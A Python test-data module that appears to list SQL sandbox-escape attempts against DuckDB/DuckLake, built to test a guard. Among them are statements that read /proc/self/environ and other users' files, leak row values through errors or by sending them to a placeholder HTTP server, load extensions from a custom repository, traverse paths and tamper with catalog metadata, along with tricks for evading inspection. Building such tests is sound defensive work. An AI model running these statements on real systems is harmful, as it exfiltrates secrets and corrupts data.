"""Statements that want out of a sandbox: to change a file of the source, to reach another place, to show values.

In them stand @DATA@ for a data file of the source, @SOURCE@ for its data path, @CATALOG@ for its catalog, @OUT@ for a
folder of somebody else, @SECRET@ for a file of theirs, @PORT@ for a server of theirs. The lake is `lake`, with the
tables users (id BIGINT, email VARCHAR) and other (id BIGINT, t VARCHAR), a view people and a macro run_text.
"""

from collections.abc import Iterator

MAINTENANCE = {
    "orphans": "FROM ducklake_delete_orphaned_files('lake', cleanup_all => true)",
    "orphans of the lake": "FROM lake.delete_orphaned_files(cleanup_all => true)",
    "cleanup": "FROM ducklake_cleanup_old_files('lake', cleanup_all => true)",
    "expire": "FROM ducklake_expire_snapshots('lake', older_than => now() + INTERVAL 1 DAY)",
    "flush": "FROM ducklake_flush_inlined_data('lake')",
    "rewrite": "FROM ducklake_rewrite_data_files('lake', delete_threshold => 0)",
    "add files": "FROM ducklake_add_data_files('lake', 'users', '@DATA@')",
    "commit": "FROM ducklake_commit('lake', 1)",
    "checkpoint": "FROM checkpoint('__ducklake_metadata_lake')",
    "force checkpoint": "FROM force_checkpoint('lake')",
    "logging": "FROM enable_logging(storage => 'file', storage_path => '@SOURCE@/logs', level => 'debug')",
    "profiling": "FROM enable_profiling(save_location => '@DATA@')",
    "no logging": "FROM disable_logging()",
    "logs away": "FROM truncate_duckdb_logs()",
    "secrets": "FROM duckdb_secrets()",
    "which secret": "FROM which_secret('s3://a', 's3')",
    "serialized": (
        "FROM json_execute_serialized_sql(json_serialize_sql('FROM ducklake_delete_orphaned_files(''lake'')'))"
    ),
    "sniff": "FROM sniff_csv('@SECRET@')",
    "database": "FROM read_duckdb('@CATALOG@')",
    "sqlite": "FROM sqlite_scan('@OUT@/a.db', 't')",
    "postgres": "FROM postgres_scan('host=127.0.0.1 port=@PORT@', 'a', 'b')",
    "postgres query": "FROM postgres_query('lake', 'SELECT 1')",
    "postgres attach": "FROM postgres_attach('host=127.0.0.1 port=@PORT@')",
}
"""Queries that do something by themselves; DuckDB takes each wherever a table may stand."""

CONTAINERS = {
    "itself": "{q}",
    "call": "CALL ducklake_delete_orphaned_files('lake', cleanup_all => true)",
    "call of the lake": "CALL lake.delete_orphaned_files(cleanup_all => true)",
    "insert": "INSERT INTO other SELECT 1, 'x' {q}",
    "update": "UPDATE other SET t = (SELECT count(*) {q})",
    "delete": "DELETE FROM other WHERE id IN (SELECT 1 {q})",
    "merge": "MERGE INTO other USING (SELECT 1 AS id {q}) s ON other.id = s.id WHEN MATCHED THEN DELETE",
    "merge, in an action": (
        "MERGE INTO other USING (SELECT 9 AS id) s ON other.id = s.id"
        " WHEN NOT MATCHED THEN INSERT VALUES (1, (SELECT count(*) {q})::VARCHAR)"
    ),
    "create table": "CREATE TABLE x AS {q}",
    "create or replace": "CREATE OR REPLACE TABLE other AS {q}",
    "temp table": "CREATE TEMP TABLE x AS {q}",
    "table in memory": "CREATE TABLE memory.main.x AS {q}",
    "set variable": "SET VARIABLE x = (SELECT count(*) {q})",
    "enum": "CREATE TYPE memory.main.e AS ENUM (SELECT 'x' {q})",
    "temp enum": "CREATE TEMP TYPE e AS ENUM (SELECT 'x' {q})",
    "pivot": "PIVOT (SELECT 1 AS a, count(*) AS b {q}) ON a USING sum(b)",
    "pivot, on": "PIVOT other ON (SELECT count(*) {q}) USING count(*)",
    "pivot with values": "PIVOT (SELECT 1 AS a, count(*) AS b {q}) ON a IN (1) USING sum(b)",
    "pivot in a table": "CREATE TABLE x AS PIVOT (SELECT 1 AS a, count(*) AS b {q}) ON a USING sum(b)",
    "pivot in an insert": "INSERT INTO other (id) PIVOT (SELECT 1 AS a, count(*) AS b {q}) ON a USING sum(b)",
    "pivot in a pivot": 'PIVOT (PIVOT (SELECT 1 AS a, 2 AS c {q}) ON a USING sum(c)) ON "1" USING count(*)',
    "unpivot": "UNPIVOT (SELECT count(*) AS a, count(*) AS b {q}) ON a, b INTO NAME n VALUE v",
    "explain analyze": "EXPLAIN ANALYZE {q}",
    "explain analyze, insert": "EXPLAIN (ANALYZE, FORMAT json) INSERT INTO other SELECT 1, 'x' {q}",
    "explain analyze, set": "EXPLAIN ANALYZE SET VARIABLE x = (SELECT count(*) {q})",
    "prepared": "PREPARE p AS {q}; EXECUTE p",
    "prepared insert": "PREPARE p AS INSERT INTO other SELECT 1, 'x' {q}; EXECUTE p",
    "view": "CREATE VIEW v AS {q}; FROM v",
    "view over a view": "CREATE VIEW v AS {q}; CREATE VIEW w AS FROM v; CREATE TABLE x AS FROM w",
    "temp view": "CREATE TEMP VIEW v AS {q}; FROM v",
    "query of a view": "CREATE VIEW v AS {q}; FROM query_table('v')",
    "macro": "CREATE MACRO m() AS TABLE {q}; FROM m()",
    "temp macro": "CREATE TEMP MACRO m() AS TABLE {q}; SELECT count(*) FROM m()",
    "scalar macro": "CREATE MACRO m() AS (SELECT count(*) {q}); SELECT m()",
    "scalar macro in an update": "CREATE MACRO m() AS (SELECT count(*) {q}); UPDATE other SET id = m()",
    "call of a macro": "CREATE MACRO m() AS TABLE {q}; CALL m()",
    "macro called set_option": "CREATE MACRO set_option() AS TABLE {q}; CALL set_option()",
    "schema called set_option": (
        "CREATE SCHEMA set_option; CREATE MACRO set_option.x() AS TABLE {q}; CALL set_option.x()"
    ),
    "default": "ALTER TABLE other ADD COLUMN z BIGINT DEFAULT (SELECT count(*) {q})",
    "default of a macro": (
        "CREATE MACRO m() AS (SELECT count(*) {q}); ALTER TABLE other ADD COLUMN z BIGINT DEFAULT m()"
    ),
    "default of a temp table": (
        "CREATE TEMP TABLE d (i INTEGER); ALTER TABLE d ADD COLUMN z BIGINT DEFAULT (SELECT count(*) {q})"
    ),
    "default set": "ALTER TABLE other ALTER id SET DEFAULT (SELECT count(*) {q}); INSERT INTO other (t) VALUES ('x')",
    "default at once": (
        "CREATE TABLE x (i INTEGER, j BIGINT DEFAULT (SELECT count(*) {q})); INSERT INTO x (i) VALUES (1)"
    ),
    "using": "CREATE TEMP TABLE d (i INTEGER); ALTER TABLE d ALTER i TYPE BIGINT USING (SELECT count(*) {q})",
    "check": "CREATE TEMP TABLE d (i INTEGER CHECK (i > (SELECT count(*) {q}))); INSERT INTO d VALUES (1)",
    "index": "CREATE TEMP TABLE d (i INTEGER); CREATE INDEX x ON d ((i + (SELECT count(*) {q})))",
    "sorted by a macro": (
        "CREATE MACRO m(a) AS (SELECT count(*) {q}); ALTER TABLE other SET SORTED BY (m(id));"
        " INSERT INTO other SELECT range, 'x' FROM range(1000)"
    ),
    "a function of DuckDB's": "CREATE MACRO lower(a) AS (SELECT max(path) {q})",
    "a function of DuckDB's, for the session": "CREATE TEMP MACRO lower(a) AS (SELECT max(path) {q})",
    "an operator of DuckDB's": 'CREATE MACRO "+"(a, b) AS (SELECT count(*) {q})',
    "a function of DuckLake's": "CREATE MACRO ducklake_set_commit_message(a, b, c) AS TABLE {q}",
    "a pragma of DuckDB's": "CREATE MACRO pragma_version() AS TABLE {q}; PRAGMA version",
    "limit": "FROM other LIMIT (SELECT count(*) {q})",
    "at": "FROM other AT (VERSION => (SELECT count(*) {q}))",
    "argument": "FROM range((SELECT count(*) {q}))",
    "argument of set_option": "CALL lake.set_option('target_file_size', (SELECT '5MB' {q}))",
    "setting": "SET threads = (SELECT 1 {q})",
    "with": "WITH w AS MATERIALIZED ({q}) FROM w",
    "recursive": "WITH RECURSIVE r AS (SELECT 1 AS a UNION ALL SELECT (SELECT 2 {q}) FROM r WHERE a < 2) FROM r",
    "union": "SELECT 1 UNION ALL (SELECT count(*) {q})",
    "lateral": "FROM other, LATERAL (SELECT other.id {q})",
    "exists": "FROM other WHERE EXISTS ({q})",
    "values": "VALUES ((SELECT count(*) {q}))",
    "summarize": "SUMMARIZE {q}",
    "describe": "DESCRIBE {q}",
    "no rows": "FROM ({q}) LIMIT 0",
    "not when explained": "SELECT * FROM ({q}) WHERE current_query() NOT LIKE 'EXPLAIN%'",
    "copy": "COPY ({q}) TO '@OUT@/x.csv'",
    "comment between": "FROM ducklake_delete_orphaned_files/* x */('lake', cleanup_all => true)",
    "quoted": "FROM \"DUCKLAKE_delete_orphaned_files\"('lake', cleanup_all => true)",
    "of the system": "FROM system.main.ducklake_delete_orphaned_files('lake', cleanup_all => true)",
    "pragma": "PRAGMA json_execute_serialized_sql(json_serialize_sql('{qq}'))",
    "query of an existing macro": "FROM run_text('{qq}')",
    "query of now": "FROM query(CASE WHEN current_query() LIKE 'EXPLAIN%' THEN 'FROM range(1)' ELSE '{qq}' END)",
    "existing macro of now": (
        "FROM run_text(CASE WHEN current_query() LIKE 'EXPLAIN%' THEN 'FROM range(1)' ELSE '{qq}' END)"
    ),
    "existing macro over a macro of now": (
        "FROM run_more(CASE WHEN current_query() LIKE 'EXPLAIN%' THEN 'FROM range(1)' ELSE '{qq}' END)"
    ),
    "table of now": (
        "CREATE VIEW v AS {q}; FROM query_table(CASE WHEN current_query() LIKE 'EXPLAIN%' THEN 'other' ELSE 'v' END)"
    ),
    "query of now in a query": (
        "FROM query('FROM query(CASE WHEN current_query() LIKE ''EXPLAIN%'' THEN ''FROM range(1)'' ELSE"
        " ''{qqq}'' END)')"
    ),
    "query of chance": "FROM query(CASE WHEN random() < 0.5 THEN 'FROM range(1)' ELSE '{qq}' END)",
    "fails when explained": (
        "SELECT * FROM range(CASE WHEN current_query() LIKE 'EXPLAIN%' THEN error('x')::INTEGER ELSE 3 END), ({q})"
    ),
}
"""Where a query may stand. {q} is that, {qq} the same in a string, {qqq} in a string of a string."""

DIRECT = {
    "COPY TO a file of the source": "COPY users TO '@DATA@' (FORMAT parquet)",
    "COPY TO the source": "COPY users TO '@SOURCE@/main/users/new.parquet' (FORMAT parquet)",
    "COPY TO folders of the source": "COPY users TO '@SOURCE@' (FORMAT parquet, PARTITION_BY (id), OVERWRITE)",
    "COPY TO a path with ..": "COPY users TO '@SOURCE@/../x.csv'",
    "COPY TO elsewhere": "COPY users TO '@OUT@/x.csv'",
    "COPY a query": "COPY (SELECT 1) TO '@DATA@'",
    "COPY TO, explained": "EXPLAIN ANALYZE COPY users TO '@DATA@'",
    "COPY TO, prepared": "PREPARE p AS COPY users TO '@DATA@'; EXECUTE p",
    "COPY a table called from": 'CREATE TABLE "from" (a INT); COPY "from" TO \'@DATA@\'',
    "COPY TO with a no-break space": "COPY users\xa0TO '@DATA@'",
    "COPY FROM a file of somebody": "COPY other FROM '@SECRET@'",
    "COPY FROM a server": "COPY other FROM 'http://127.0.0.1:@PORT@/b.csv'",
    "COPY FROM DATABASE": "COPY FROM DATABASE lake TO memory",
    "EXPORT": "EXPORT DATABASE '@SOURCE@/main'",
    "EXPORT elsewhere": "EXPORT DATABASE '@OUT@/e'",
    "IMPORT": "IMPORT DATABASE '@OUT@/imp'",
    "PRAGMA import_database": "PRAGMA import_database('@OUT@/imp')",
    "ATTACH in the source": "ATTACH '@SOURCE@/o.db' AS o; CREATE TABLE o.x AS SELECT 1",
    "ATTACH a file of the source": "ATTACH '@DATA@' AS o",
    "ATTACH the source": "ATTACH 'ducklake:@CATALOG@' AS o; DROP TABLE o.users",
    "ATTACH its catalog": "ATTACH '@CATALOG@' AS o; DELETE FROM o.ducklake_data_file",
    "ATTACH elsewhere": "ATTACH '@OUT@/o.db' AS o",
    "ATTACH in memory": "ATTACH ':memory:' AS o",
    "ATTACH a server": "ATTACH 'host=127.0.0.1 port=@PORT@' AS o (TYPE postgres)",
    "DETACH": "DETACH lake",
    "USE the metadata": "USE __ducklake_metadata_lake; DELETE FROM ducklake_data_file",
    "search_path": "SET search_path = '__ducklake_metadata_lake.main'; DELETE FROM ducklake_data_file",
    "search_path, put together": (
        "SET search_path = '__ducklake_' || 'metadata_lake.main'; DELETE FROM ducklake_data_file"
    ),
    "search_path, escaped": "SET search_path = E'\\x5f_ducklake_metadata_lake.main'; DELETE FROM ducklake_data_file",
    "schema": "SET schema = '__ducklake_metadata_lake.main'; DELETE FROM ducklake_data_file",
    "PRAGMA search_path": "PRAGMA search_path='__ducklake_metadata_lake.main'; DELETE FROM ducklake_data_file",
    "metadata, written": (
        "INSERT INTO __ducklake_metadata_lake.ducklake_files_scheduled_for_deletion VALUES (1, '@DATA@', false, now());"
        " FROM ducklake_cleanup_old_files('lake', cleanup_all => true)"
    ),
    "metadata, guard replaced": (
        "DROP TABLE __ducklake_metadata_lake.main.ducklake_files_scheduled_for_deletion;"
        " CREATE TABLE __ducklake_metadata_lake.main.ducklake_files_scheduled_for_deletion (a INT)"
    ),
    "metadata, in capitals": 'DELETE FROM "__DUCKLAKE_METADATA_LAKE".main.ducklake_data_file',
    "metadata, by a view": "CREATE VIEW v AS FROM __ducklake_metadata_lake.ducklake_data_file; FROM v",
    "metadata, by query": "CREATE TABLE x AS FROM query('FROM __ducklake_' || 'metadata_lake.ducklake_metadata')",
    "metadata, by query_table": "CREATE TABLE x AS FROM query_table('__ducklake_metadata_lake.ducklake_metadata')",
    "metadata, merged": (
        "MERGE INTO __ducklake_metadata_lake.ducklake_metadata USING (SELECT 1) ON false"
        " WHEN NOT MATCHED THEN INSERT VALUES ('a', 'b', NULL, NULL)"
    ),
    "metadata, altered": "ALTER TABLE __ducklake_metadata_lake.ducklake_metadata RENAME TO x",
    "metadata, commented": "COMMENT ON TABLE __ducklake_metadata_lake.ducklake_metadata IS 'x'",
    "CALL merge": "CALL ducklake_merge_adjacent_files('lake')",
    "CALL add files": "CALL ducklake_add_data_files('lake', 'users', '@DATA@')",
    "add, then rewrite and clean": (
        "CALL ducklake_add_data_files('lake', 'users', '@DATA@'); DELETE FROM users;"
        " CALL ducklake_cleanup_old_files('lake', cleanup_all => true)"
    ),
    "CHECKPOINT": "CHECKPOINT",
    "CHECKPOINT the lake": "CHECKPOINT lake",
    "FORCE CHECKPOINT": "FORCE CHECKPOINT lake",
    "VACUUM": "VACUUM",
    "ANALYZE": "ANALYZE",
    "SET profiling": "SET enable_profiling = 'json'; SET profiling_output = '@DATA@'; SELECT 1",
    "SET profiling, html": "SET enable_profiling = 'html'; SET profile_output = '@OUT@/victim.sh'; SELECT 1",
    "PRAGMA profiling": "PRAGMA enable_profiling = 'json'; PRAGMA profile_output = '@DATA@'; SELECT 1",
    "PRAGMA enable_profiling": "PRAGMA enable_profiling",
    "SET log_query_path": "SET log_query_path = '@DATA@'; SELECT 1",
    "SET logging": "SET enable_logging = true; SET logging_storage = 'file'; SELECT 1",
    "CALL enable_logging": "CALL enable_logging(storage => 'file', storage_path => '@SOURCE@')",
    "SET http_logging_output": "SET enable_http_logging = true; SET http_logging_output = '@DATA@'",
    "SET temp_directory": "SET temp_directory = '@SOURCE@/main'; SET memory_limit = '60MB'",
    "SET secret_directory": "SET secret_directory = '@SOURCE@'; CREATE PERSISTENT SECRET s (TYPE http)",
    "SET home_directory": "SET home_directory = '@SOURCE@'",
    "SET extension_directory": "SET extension_directory = '@SOURCE@'; INSTALL json",
    "SET file_search_path": "SET file_search_path = '@OUT@'; FROM 'victim.sh'",
    "SET http_proxy": "SET http_proxy = 'http://127.0.0.1:@PORT@'",
    "SET repository": (
        "SET custom_extension_repository = 'http://127.0.0.1:@PORT@/ext'; SET autoinstall_known_extensions = true;"
        " SET autoload_known_extensions = true; SELECT ST_Point(1, 2)"
    ),
    "SET allowed_directories": "SET allowed_directories = ['/']; COPY users TO '@OUT@/x.csv'",
    "SET enable_external_access": "SET enable_external_access = true; COPY users TO '@OUT@/x.csv'",
    "SET lock_configuration": "SET lock_configuration = false; SET log_query_path = '@DATA@'",
    "SET allowed_configs": "SET allowed_configs = ['log_query_path']",
    "SET explain_output": "SET explain_output = 'physical_only'",
    "SET disabled_filesystems": "SET GLOBAL disabled_filesystems = 'LocalFileSystem'",
    "SET memory_limit": "SET GLOBAL memory_limit = '1MB'; CREATE TABLE x AS FROM users",
    "RESET": "RESET allowed_directories; RESET lock_configuration",
    "INSTALL": "INSTALL spatial FROM 'http://127.0.0.1:@PORT@/ext'",
    "INSTALL a file": "INSTALL '@OUT@/x.duckdb_extension'",
    "LOAD": "LOAD '@OUT@/x.duckdb_extension'",
    "LOAD postgres": "LOAD postgres; FROM postgres_scan('host=127.0.0.1 port=@PORT@', 'a', 'b')",
    "autoload": "SELECT ST_Point(1, 2)",
    "xlsx": "FROM read_xlsx('@SECRET@')",
    "UPDATE EXTENSIONS": "UPDATE EXTENSIONS",
    "CREATE SECRET": "CREATE SECRET s (TYPE http, BEARER_TOKEN 'abc')",
    "CREATE PERSISTENT SECRET": "CREATE OR REPLACE PERSISTENT SECRET s IN local_file (TYPE http, BEARER_TOKEN 'abc')",
    "DROP SECRET": "DROP SECRET IF EXISTS s",
    "DROP PERSISTENT SECRET": "DROP PERSISTENT SECRET stored",
    "ALTER DATABASE": "ALTER DATABASE memory SET ALIAS TO m",
    "CREATE DATABASE": "CREATE DATABASE o",
    "read over HTTP": "CREATE TABLE x AS FROM read_csv('http://127.0.0.1:@PORT@/a.csv')",
    "read over HTTP, explained": "EXPLAIN FROM read_parquet('http://127.0.0.1:@PORT@/a.parquet')",
    "read over HTTP, in a view": "CREATE VIEW v AS FROM 'http://127.0.0.1:@PORT@/a.csv'",
    "read over HTTP, in a macro": "CREATE MACRO m() AS TABLE FROM 'http://127.0.0.1:@PORT@/a.csv'; FROM m()",
    "read over HTTP, with a value": (
        "SET VARIABLE x = (SELECT email FROM users LIMIT 1); FROM read_csv('http://127.0.0.1:@PORT@/' ||"
        " getvariable('x'))"
    ),
    "read from S3": "FROM read_parquet('s3://127.0.0.1/a.parquet')",
    "read a file": "CREATE TABLE x AS FROM read_csv('@SECRET@', header = true, delim = ':')",
    "read a file, cast": "SELECT content::INT FROM read_text('@SECRET@')",
    "read a file, error": "SELECT error(content) FROM read_text('@SECRET@')",
    "read a file, reversed": "SELECT error(reverse(content)) FROM read_text('@SECRET@')",
    "read a file, as names": (
        "CREATE TABLE x AS PIVOT (SELECT content AS c, 1 AS b FROM read_text('@SECRET@')) ON c USING sum(b)"
    ),
    "read the environment": "SELECT error(content::VARCHAR) FROM read_blob('/proc/self/environ')",
    "getenv": "SELECT error(getenv('HOME'))",
    "glob": "SELECT error((SELECT string_agg(file) FROM glob('@OUT@/*')))",
    "JSON": "FROM read_json('@SECRET@')",
    "Parquet metadata": "FROM parquet_metadata('@SECRET@')",
    "rows, error": "SELECT error(email) FROM users",
    "rows, cast": "SELECT email::INT FROM users",
    "rows, cast in an UPDATE": "UPDATE users SET id = email::INT",
    "rows, constraint": "CREATE TEMP TABLE k (e VARCHAR PRIMARY KEY); INSERT INTO k SELECT email FROM users, range(2)",
    "rows, date": "SELECT strptime(email, '%Y') FROM users",
    "rows, JSON": "SELECT json_extract(email, '$.a') FROM users",
    "rows, in a variable as a field": (
        "SET VARIABLE x = (SELECT min(email) FROM users); SELECT struct_extract({'a': 1}, getvariable('x'))"
    ),
    "rows, in a variable as a setting": (
        "SET VARIABLE x = (SELECT min(email) FROM users); SELECT current_setting(getvariable('x'))"
    ),
    "rows, in a variable as a table": (
        "SET VARIABLE x = (SELECT min(email) FROM users); FROM query_table(getvariable('x'))"
    ),
    "rows, as names of columns": (
        "CREATE TABLE x AS PIVOT (SELECT min(email) AS e, 1 AS b FROM users) ON e USING sum(b); SELECT nothing FROM x"
    ),
    "settings": "SELECT error(current_setting('s3_secret_access_key'))",
    "path of a table": 'CREATE TABLE "../../../data/main/users" AS SELECT range FROM range(1000)',
    "path of a schema": 'CREATE SCHEMA "../../data"; CREATE TABLE "../../data".users AS SELECT range FROM range(1000)',
    "path of a partition": (
        "CREATE TABLE x (a VARCHAR); ALTER TABLE x SET PARTITIONED BY (a);"
        " INSERT INTO x SELECT '../../../../data/main' FROM range(1000)"
    ),
    "path of a partition key": (
        'CREATE TABLE x ("../../../../data/a" VARCHAR); ALTER TABLE x SET PARTITIONED BY ("../../../../data/a");'
        " INSERT INTO x SELECT 'b' FROM range(1000)"
    ),
    "own lock": "SET lock_configuration = true",
    "zero-width space": "\u200bCOPY users TO '@DATA@'",
    "zero-width space in a word": "CREATE PERSISTENT\u200bSECRET s (TYPE http)",
    "transaction": "COMMIT; DROP TABLE users",
    "history": "DELETE FROM lake.main.ducktracker_schema_history",
    "write_log": "SELECT write_log('x')",
}


def escapes() -> Iterator[tuple[str, str]]:
    """Return a name and the SQL of each."""
    for title, query in MAINTENANCE.items():
        yield f"query: {title}", query
        yield f"set variable: {title}", f"SET VARIABLE x = (SELECT count(*) {query})"
    for title, form in CONTAINERS.items():
        once = MAINTENANCE["orphans"].replace("'", "''")
        yield (
            f"in: {title}",
            form.replace("{qqq}", once.replace("'", "''")).replace("{qq}", once).replace("{q}", MAINTENANCE["orphans"]),
        )
        if "{q}" in form:
            text = "FROM query('FROM duck' || 'lake_delete_orphaned_files(''lake'', cleanup_all => true)')"
            yield f"in, by query(): {title}", form.replace("{q}", text)
    yield from DIRECT.items()
